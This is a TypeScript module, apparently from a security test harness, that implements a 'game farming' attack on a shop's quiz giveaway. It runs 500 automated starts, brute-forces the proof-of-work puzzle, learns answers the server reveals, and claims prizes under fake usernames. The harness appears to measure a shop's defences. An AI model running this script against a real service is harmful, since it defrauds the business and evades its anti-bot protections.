import { createHash } from 'node:crypto';
import type { Attack, Target } from '../attack.ts';

const starts = 500;
const maxClaims = 5;

interface StartedGame {
  game: { id: string };
  device_id: string;
  questions: { id: string; text: string; options: string[] }[];
}
interface Challenge {
  challenge: string;
  bits: number;
}
interface GivenAnswer {
  correct: boolean;
  correct_option: number;
  stage: string;
}

/**
 * Starts games without a device id, so that each start is a new player; remembers every answer that
 * the shop reveals, solves the puzzles it sets, and claims whatever is won under a new name.
 */
export const farmGame: Attack = {
  name: `Game farming: ${starts} automatic starts from one address`,
  async run(target) {
    const answers = new Map<string, string>();
    const counts = { started: 0, won: 0, claimed: 0 };
    for (let index = 0; index < starts; index += 1) {
      const started = await start(target);
      if (!started) continue;
      counts.started += 1;
      if (!(await answerAll(target, started, answers))) continue;
      await call(target, 'game-spin', { game_id: started.game.id });
      counts.won += 1;
      const claim = await call(target, 'game-claim', {
        game_id: started.game.id,
        device_id: started.device_id,
        instagram_username: `farmer.${index}`,
      });
      if (claim.status === 201) counts.claimed += 1;
    }
    const learned = `with ${counts.started} games, ${answers.size} answers learned, ${counts.won} wins`;
    return [
      { figure: `claims without an account, ${learned}`, value: counts.claimed, max: maxClaims },
    ];
  },
};

async function start(target: Target): Promise<StartedGame | null> {
  const first = await call(target, 'game-start', {});
  if (first.status === 200) return first.body as StartedGame;
  const rejection = first.body as { error?: { code: string; details?: Challenge } };
  const { code, details } = rejection.error ?? {};
  if (code !== 'proof_required' || !details) return null;
  const proof = { challenge: details.challenge, nonce: solve(details) };
  const second = await call(target, 'game-start', { proof });
  return second.status === 200 ? (second.body as StartedGame) : null;
}

/** Whether all answers were right. */
async function answerAll(
  target: Target,
  { game, questions }: StartedGame,
  answers: Map<string, string>,
): Promise<boolean> {
  let stage = 'questions';
  for (const { id, text, options } of questions) {
    const option = Math.max(0, options.indexOf(answers.get(text) ?? ''));
    const { body } = await call(target, 'game-answer', {
      game_id: game.id,
      question_id: id,
      option,
    });
    const answer = body as GivenAnswer;
    answers.set(text, options[answer.correct_option] ?? '');
    ({ stage } = answer);
  }
  return stage === 'wheel';
}

/** With native code: an attacker has a faster machine than a player. */
function solve({ challenge, bits }: Challenge): string {
  for (let nonce = 0; ; nonce += 1) {
    const digest = createHash('sha256').update(`${challenge}:${nonce}`).digest();
    if (digest.readUInt32BE() >>> (32 - bits) === 0) return `${nonce}`;
  }
}

async function call({ url }: Target, name: string, body: object) {
  const send = () =>
    fetch(`${url}/functions/v1/${name}`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
  // The shop closes a connection that was idle while a puzzle was solved.
  const response = await send().catch(send);
  return { status: response.status, body: (await response.json()) as unknown };
}
